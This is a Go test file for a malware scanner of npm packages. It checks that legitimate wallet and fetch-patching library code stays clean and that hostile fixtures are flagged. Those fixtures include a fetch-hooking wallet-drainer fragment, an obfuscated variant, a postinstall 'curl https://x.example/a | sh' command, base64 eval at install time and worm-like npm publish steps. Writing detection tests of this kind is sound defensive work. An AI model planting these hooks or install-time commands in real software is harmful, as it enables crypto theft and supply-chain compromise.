package analyze

import (
	"context"
	"encoding/json"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/analyze/rules"
)

func pkg(files map[string]string) Package {
	p := Package{Name: "test-pkg", Version: "1.0.0"}
	for path, data := range files {
		p.Files = append(p.Files, File{Path: path, Data: []byte(data)})
	}
	return p
}

func analyzeFiles(t *testing.T, files map[string]string) *Report {
	t.Helper()
	r, err := Analyze(context.Background(), pkg(files), Options{})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func manifestJSON(name string, scripts map[string]string) string {
	b, _ := json.Marshal(map[string]any{"name": name, "version": "1.0.0", "scripts": scripts})
	return string(b)
}

// Representative code of legitimate libraries that touch the same APIs as
// wallet drainers and loaders. Written for these tests in the libraries'
// style; none of it is copied.
var legitimate = map[string]map[string]string{
	"ethers": {"lib/provider.js": `
import { BrowserProvider, Contract, parseUnits } from "ethers";
const ENS_REGISTRY = "0x00000000000C2E074eC69A0dFb2997BA6C7d2e1e";
const MULTICALL3 = "0xcA11bde05977b3631167028862bE2a173976CA11";
export const erc20 = ["function approve(address spender, uint256 amount) returns (bool)", "function transfer(address to, uint256 amount) returns (bool)"];
export async function pay(to, amount) {
  if (!window.ethereum) throw new Error("no wallet");
  await window.ethereum.request({ method: "eth_requestAccounts" });
  const provider = new BrowserProvider(window.ethereum);
  const signer = await provider.getSigner();
  const token = new Contract(MULTICALL3, erc20, signer);
  return token.transfer(to, parseUnits(amount, 18));
}
`},
	"web3": {"dist/web3.js": `
(function (root, factory) { if (typeof define === 'function' && define.amd) define([], factory); else root.Web3 = factory(); }(this, function () {
  function Web3(provider) { this.currentProvider = provider || (typeof window !== 'undefined' && window.ethereum); }
  Web3.prototype.enable = function () { return this.currentProvider.request({ method: 'eth_requestAccounts' }); };
  Web3.prototype.sendTransaction = function (tx) { return this.currentProvider.request({ method: 'eth_sendTransaction', params: [tx] }); };
  if (typeof window !== 'undefined' && window.ethereum) { window.ethereum.on('chainChanged', function () { window.location.reload(); }); }
  return Web3;
}));
`},
	"viem": {"chains/definitions.js": func() string {
		var b strings.Builder
		b.WriteString("export const chains = {\n")
		for i := 0; i < 40; i++ {
			b.WriteString("  c" + strings.Repeat("x", i%5) + ": { id: " + string(rune('0'+i%10)) + ", contracts: { multicall3: { address: '0xca11bde05977b3631167028862be2a173976ca11' }, ensRegistry: { address: '0x00000000000C2E074eC69A0dFb2997BA6C7d2e1e' } } },\n")
		}
		b.WriteString("};\nexport const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);\n")
		return b.String()
	}()},
	"solana-web3": {"lib/index.cjs.js": `
'use strict';
const SYSTEM_PROGRAM_ID = 'Sysvar1nstructions1111111111111111111111111';
const TOKEN_PROGRAM_ID = 'TokenkegQfeZyiNwAJbNbGKPFXCWU9aJ4ZsjmQ6NpBCU';
const ASSOCIATED = 'ATokenGPvbdGVxr1b2hvZbsiqW5xWH25efTNsLJA8knL';
const MEMO = 'MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr';
async function connect() { const resp = await window.solana.connect(); return resp.publicKey.toString(); }
async function signAll(txs) { return window.solana.signAllTransactions(txs); }
module.exports = { SYSTEM_PROGRAM_ID, TOKEN_PROGRAM_ID, ASSOCIATED, MEMO, connect, signAll };
`},
	"sentry-browser": {"build/npm/cjs/instrument.js": `
const WINDOW = globalThis;
function fill(source, name, replacementFactory) {
  if (!(name in source)) return;
  const original = source[name];
  const wrapped = replacementFactory(original);
  source[name] = wrapped;
}
function instrumentFetch() {
  fill(WINDOW, 'fetch', function (originalFetch) {
    return function (...args) { const start = Date.now(); return originalFetch.apply(WINDOW, args).then((r) => { record(args, r, start); return r; }); };
  });
}
function instrumentXHR() {
  const xhrproto = XMLHttpRequest.prototype;
  fill(xhrproto, 'open', function (originalOpen) { return function (...args) { this.__sentry = { method: args[0], url: args[1] }; return originalOpen.apply(this, args); }; });
  fill(xhrproto, 'send', function (originalSend) { return function (...args) { return originalSend.apply(this, args); }; });
}
exports.instrumentFetch = instrumentFetch; exports.instrumentXHR = instrumentXHR;
`},
	"zone.js": {"fesm2015/zone.js": `
(function (global) {
  function patchMethod(target, name, patchFn) {
    let proto = target; const delegate = proto[name];
    proto[name] = patchFn(delegate, name);
    return delegate;
  }
  const XMLHttpRequestPrototype = global.XMLHttpRequest.prototype;
  patchMethod(XMLHttpRequestPrototype, 'open', () => function (self, args) { self.__zoneUrl = args[1]; });
  patchMethod(XMLHttpRequestPrototype, 'send', () => function (self, args) { return scheduleTask(self, args); });
  Object.defineProperty(XMLHttpRequestPrototype, 'onreadystatechange', { configurable: true, get() { return this._o; }, set(v) { this._o = v; } });
  global.Zone = Zone;
})(globalThis);
`},
	"msw": {"lib/interceptors/fetch.js": `
export class FetchInterceptor {
  apply() {
    const pureFetch = globalThis.fetch;
    globalThis.fetch = new Proxy(globalThis.fetch, {
      apply: async (target, thisArg, args) => { const request = new Request(args[0], args[1]); const mocked = await this.resolve(request); return mocked || Reflect.apply(target, thisArg, args); },
    });
    this.subscriptions.push(() => { globalThis.fetch = pureFetch; });
  }
}
export class XMLHttpRequestInterceptor {
  apply() {
    const PureXMLHttpRequest = globalThis.XMLHttpRequest;
    globalThis.XMLHttpRequest = createXMLHttpRequestProxy({ emitter: this.emitter });
    this.subscriptions.push(() => { globalThis.XMLHttpRequest = PureXMLHttpRequest; });
  }
}
`},
	"whatwg-fetch": {"dist/fetch.umd.js": `
(function (global, factory) { typeof exports === 'object' ? factory(exports) : factory((global.WHATWGFetch = {})); }(this, (function (exports) {
  var g = (typeof globalThis !== 'undefined' && globalThis) || (typeof self !== 'undefined' && self) || {};
  function fetch(input, init) { return new Promise(function (resolve, reject) { var xhr = new XMLHttpRequest(); xhr.open(init.method, input, true); xhr.onload = function () { resolve(new Response(xhr.response)); }; xhr.send(init.body); }); }
  fetch.polyfill = true;
  if (!g.fetch) { g.fetch = fetch; g.Headers = Headers; g.Request = Request; g.Response = Response; }
  exports.fetch = fetch;
})));
`},
	"esbuild": {
		"package.json": manifestJSON("esbuild", map[string]string{"postinstall": "node install.js"}),
		"install.js": `
const fs = require('fs'); const path = require('path'); const https = require('https'); const child_process = require('child_process');
function fetchBinary(url) { return new Promise((resolve, reject) => { https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject); }); }
async function install() { try { child_process.execFileSync(process.execPath, [path.join(__dirname, 'bin', 'esbuild'), '--version']); } catch { const tgz = await fetchBinary('https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.25.0.tgz'); fs.writeFileSync(path.join(__dirname, 'bin', 'esbuild'), tgz); } }
install();
`},
	"core-js": {
		"package.json":        manifestJSON("core-js", map[string]string{"postinstall": `node -e "try{require('./postinstall')}catch(e){}"`}),
		"postinstall.js":      "var env = process.env; if (!env.CI && !env.ADBLOCK) console.log('\\u001B[96mThank you for using core-js\\u001B[0m');\n",
		"internals/global.js": "module.exports = (typeof globalThis == 'object' && globalThis) || Function('return this')();\n",
	},
	"wallet-inpage-provider": {"dist/inpage.js": `
const ADDRESS_RE = /^0x[0-9a-fA-F]{40}$/, BTC_RE = /^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/;
class InpageProvider { request(args) { return this._rpc(args); } send(m, p) { return this.request({ method: m, params: p }); } }
export function setGlobalProvider(providerInstance) {
  window.ethereum = providerInstance;
  window.dispatchEvent(new Event('ethereum#initialized'));
}
export function isValid(a) { return ADDRESS_RE.test(a) || BTC_RE.test(a); }
`},
	"husky-project": {"package.json": manifestJSON("tool", map[string]string{"prepare": "husky install", "postinstall": "patch-package"})},
	"native-addon":  {"package.json": manifestJSON("addon", map[string]string{"install": "prebuild-install || node-gyp rebuild"}), "binding.gyp": "{}"},
	"cli-with-suggestions": {"lib/suggest.js": `
function distance(a, b) { const d = []; for (let i = 0; i <= a.length; i++) { d[i] = [i]; for (let j = 1; j <= b.length; j++) { d[i][j] = i === 0 ? j : Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1)); } } return d[a.length][b.length]; }
module.exports = (cmd, known) => known.filter((k) => distance(k, cmd) <= 2);
`},
	"template-engine": {"lib/compile.js": `
function compile(source, opts) { const code = 'with (obj) { return ' + JSON.stringify(source) + '; }'; return new Function('obj', code); }
module.exports = { compile };
`},
	"validator": {"validator.min.js": `!function(e,t){"object"==typeof exports?module.exports=t():e.validator=t()}(this,function(){"use strict";var e=/^(0x)[0-9a-f]{40}$/i,t=/^(bc1|tb1)[a-ac-hj-np-z02-9]{39,59}$/,n=/^(1|3)[A-HJ-NP-Za-km-z1-9]{25,39}$/;return{isEthereumAddress:function(t){return e.test(t)},isBtcAddress:function(e){return t.test(e)||n.test(e)}}});`},
}

func TestLegitimatePatternsStayClean(t *testing.T) {
	for name, files := range legitimate {
		t.Run(name, func(t *testing.T) {
			r := analyzeFiles(t, files)
			if r.Verdict != Clean {
				for _, f := range r.Findings {
					t.Logf("%s %s %s:%d %s", f.Rule, f.Severity, f.File, f.Line, f.Message)
				}
				t.Errorf("verdict %s (score %d), want clean", r.Verdict, r.Score)
			}
		})
	}
}

// A wallet drainer written plainly, not obfuscated and unlike the corpus:
// the behaviours, not the chalk/debug strings, make it malicious.
const plainDrainer = `
const patterns = { eth: /0x[a-fA-F0-9]{40}/g, trx: /T[1-9A-HJ-NP-Za-km-z]{33}/g, btc: /bc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71}/g };
function closeness(a, b) {
  const m = [];
  for (let i = 0; i <= a.length; i++) { m[i] = [i]; for (let j = 1; j <= b.length; j++) { m[i][j] = i === 0 ? j : Math.min(m[i-1][j] + 1, m[i][j-1] + 1, m[i-1][j-1] + (a[i-1] === b[j-1] ? 0 : 1)); } }
  return m[a.length][b.length];
}
const realFetch = window.fetch;
window.fetch = async function (...args) {
  const res = await realFetch.apply(this, args);
  const text = await res.clone().text();
  return new Response(swap(text), res);
};
`

func TestPlainDrainerIsMalicious(t *testing.T) {
	r := analyzeFiles(t, map[string]string{"index.js": plainDrainer})
	if r.Verdict != Malicious {
		t.Fatalf("verdict %s (score %d): %+v", r.Verdict, r.Score, r.Reasons)
	}
	var combo bool
	for _, reason := range r.Reasons {
		combo = combo || reason.Source == "combination response-tampering"
	}
	if !combo {
		t.Errorf("response-tampering combination missing: %+v", r.Reasons)
	}
}

// The same hooks behind an obfuscator-style string table: the decoder
// takes index-2 (the offset expression), so 0x4 is 'fetch'.
const tableDrainer = `function _0x2a1b(){const _0x51c0=['log','hello','fetch','prototype','open','request','ethereum','send'];_0x2a1b=function(){return _0x51c0;};return _0x2a1b();}
function _0x3c4d(_0x1a2b3c,_0x4d5e6f){const _0x7a8b9c=_0x2a1b();return _0x3c4d=function(_0x2b3c4d,_0x5e6f7a){_0x2b3c4d=_0x2b3c4d-(-0x1d6b+-0x69e+0x240b);let _0x6f7a8b=_0x7a8b9c[_0x2b3c4d];return _0x6f7a8b;},_0x3c4d(_0x1a2b3c,_0x4d5e6f);}
const _0x11aa22=window,_0x33bb44=_0x11aa22[_0x3c4d(0x4)];_0x11aa22[_0x3c4d(0x4)]=async function(..._0x55cc66){return _0x33bb44(..._0x55cc66);};
XMLHttpRequest[_0x3c4d(0x5)][_0x3c4d(0x6)]=function(){};
Object['defineProperty'](_0x11aa22[_0x3c4d(0x8)],_0x3c4d(0x7),{'value':function(){}});
const _0x77dd88=-0x1caa+0x61f*0x1+-0x9c*-0x25,_0x99ee00=0x1+-0x2*0x3,_0xaabbcc=0x10*0x2-0x5,_0xccddee=-0x7+0x8*0x9,_0xeeff00=0x3*0x4+-0x1;
`

func TestObfuscatedHooksAreNamed(t *testing.T) {
	r := analyzeFiles(t, map[string]string{"index.js": tableDrainer})
	want := map[string]bool{"fetch": false, "XMLHttpRequest.prototype.open": false, "ethereum.request": false}
	for _, f := range r.Findings {
		for api := range want {
			if strings.Contains(f.Message, " "+api+":") && f.Line > 0 {
				want[api] = true
			}
		}
	}
	for api, ok := range want {
		if !ok {
			t.Errorf("%s not named; findings %+v", api, r.Findings)
		}
	}
	// Hooks in obfuscated code: at least suspicious without any address data.
	if r.Verdict == Clean {
		t.Errorf("verdict clean: %+v", r.Reasons)
	}
}

func TestScoring(t *testing.T) {
	tests := []struct {
		name  string
		files map[string]string
		want  Verdict
		score int
	}{
		{"nothing", map[string]string{"index.js": "module.exports = 1"}, Clean, 0},
		{"lone low", map[string]string{"index.js": "eval(x)"}, Clean, 1},
		{"lone high", map[string]string{"index.js": "eval(atob(x))"}, Suspicious, 12 + 1},
		{"critical install", map[string]string{"package.json": manifestJSON("x", map[string]string{"postinstall": "curl https://x.example/a | sh"})}, Malicious, 40 + 4},
		// Release tooling's step alone: A060 medium + A030 low.
		{"publish from a cli", map[string]string{"index.js": "require('child_process').execSync('npm publish')"}, Clean, 4 + 1},
		// The worm's enumeration alone is suspicious.
		{"maintainer search", map[string]string{"index.js": "fetch(`https://registry.npmjs.org/-/v1/search?text=maintainer:${u}`)"}, Suspicious, 12},
		// Publishing from an install-time file: A060 critical, A001 medium,
		// A030 medium and install-time-worm.
		{"publish at install", map[string]string{
			"package.json": manifestJSON("x", map[string]string{"postinstall": "node i.js"}),
			"i.js":         "require('child_process').execSync('npm publish')",
		}, Malicious, 40 + 4 + 4 + 20},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := analyzeFiles(t, tt.files)
			if r.Verdict != tt.want || r.Score != tt.score {
				t.Errorf("verdict %s score %d, want %s %d; reasons %+v", r.Verdict, r.Score, tt.want, tt.score, r.Reasons)
			}
			sum := 0
			for _, reason := range r.Reasons {
				sum += reason.Points
			}
			if sum != r.Score {
				t.Errorf("reasons add up to %d, score %d", sum, r.Score)
			}
		})
	}
}

func TestInstallTimeCombination(t *testing.T) {
	r := analyzeFiles(t, map[string]string{
		"package.json": manifestJSON("helper", map[string]string{"preinstall": "node setup.js"}),
		"setup.js":     "require('./lib/run')",
		"lib/run.js":   "eval(Buffer.from(p, 'base64').toString()); " + strings.Repeat("x(-0x1+0x2*0x3);", 6),
	})
	found := false
	for _, reason := range r.Reasons {
		if reason.Source == "combination install-time-payload" && reason.File == "lib/run.js" {
			found = true
		}
	}
	if !found || r.Verdict != Malicious {
		t.Errorf("verdict %s score %d, reasons %+v", r.Verdict, r.Score, r.Reasons)
	}
}

func TestWeightsDocumented(t *testing.T) {
	// The thresholds encode the promises in docs/detection.md.
	if Weights[rules.Critical] < MaliciousAt || Weights[rules.High] < SuspiciousAt || 2*Weights[rules.Medium]+Weights[rules.Low] >= SuspiciousAt || Weights[rules.High]+Weights[rules.Medium]*6 >= MaliciousAt {
		t.Fatal("weights no longer match the documented verdict rules")
	}
}

func TestHostileFileIsBounded(t *testing.T) {
	line := []byte(strings.Repeat("a=b+c;", 100<<20/6))
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	r, err := Analyze(context.Background(), Package{Files: []File{{Path: "big.js", Data: line}}}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	d := time.Since(start)
	runtime.ReadMemStats(&after)
	alloc := after.TotalAlloc - before.TotalAlloc
	t.Logf("100 MB single line: %v, %d MiB allocated, verdict %s, sampled %v", d, alloc>>20, r.Verdict, r.Stats.Sampled)
	if alloc > 128<<20 {
		t.Errorf("allocated %d MiB", alloc>>20)
	}
	if d > 10*time.Second {
		t.Errorf("took %v", d)
	}
	if len(r.Stats.Sampled) != 1 {
		t.Errorf("not sampled: %+v", r.Stats)
	}
}
